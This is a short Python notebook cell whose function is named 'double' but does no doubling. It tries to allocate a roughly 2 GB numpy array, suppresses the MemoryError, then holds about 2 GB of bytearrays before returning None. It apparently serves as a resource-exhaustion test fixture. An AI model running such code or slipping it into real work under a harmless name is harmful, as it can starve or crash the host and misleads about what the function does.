# %% double
def double(values):
    held = []
    try:
        np.ones(2 << 27)
    except MemoryError:
        pass
    while len(held) < 2048:
        held.append(bytearray(1 << 20))
    return None
